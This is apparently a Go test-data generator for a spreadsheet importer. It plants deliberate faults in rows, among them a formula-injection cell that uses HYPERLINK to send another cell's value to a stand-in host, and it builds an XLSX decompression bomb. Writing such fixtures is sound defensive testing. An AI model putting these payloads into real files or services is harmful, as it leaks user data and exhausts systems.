package province

import (
	"archive/zip"
	"io"
	"slices"
)

// Fault is what is wrong with a row on purpose.
type Fault string

// The faults, in turn.
const (
	FaultWrongCode   Fault = "wrong_code"   // a code that is none
	FaultDuplicate   Fault = "duplicate"    // somebody of an earlier row again
	FaultUnknownArea Fault = "unknown_area" // a code in form of a place that is not registered
	FaultFormula     Fault = "formula"      // a cell that a spreadsheet would run
)

// Faults lists them.
var Faults = []Fault{FaultWrongCode, FaultDuplicate, FaultUnknownArea, FaultFormula}

// Spoil makes a share of the rows faulty, each kind as often as the others, and
// tells which: by the row's number as a spreadsheet counts it. The first row
// stays good, so that there is somebody to double.
func (s Seed) Spoil(cells [][]string, share float64) map[int]Fault {
	dice := s.draw("faults")
	at := dice.Perm(max(len(cells)-1, 0))[:int(share*float64(len(cells)))]
	slices.Sort(at)
	faults := map[int]Fault{}
	for i, row := range at {
		row++ // past the first
		fault := Faults[i%len(Faults)]
		cells[row] = slices.Clone(cells[row])
		switch fault {
		case FaultWrongCode:
			cells[row][columnArea] = "33O1" // the letter, not the digit
		case FaultDuplicate:
			cells[row] = slices.Clone(cells[0])
		case FaultUnknownArea:
			cells[row][columnArea] = cells[row][columnArea][:2] + "9999999"
		case FaultFormula:
			cells[row][columnPost] = `=HYPERLINK("http://example.invalid/?"&A2,"职务")`
		}
		faults[row+2] = fault
	}
	return faults
}

// WriteBomb writes a small XLSX whose sheet unpacks to so many bytes.
func WriteBomb(w io.Writer, unpacked int64) error {
	z := zip.NewWriter(w)
	for _, file := range [][2]string{
		{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
	} {
		part, err := z.Create(file[0])
		if err != nil {
			return err
		}
		if _, err := io.WriteString(part, file[1]); err != nil {
			return err
		}
	}
	sheet, err := z.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		return err
	}
	if _, err := io.WriteString(sheet, `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`); err != nil {
		return err
	}
	if _, err := io.CopyN(sheet, blanks{}, unpacked); err != nil {
		return err
	}
	return z.Close()
}

// blanks is a file of blanks without an end.
type blanks struct{}

func (blanks) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}
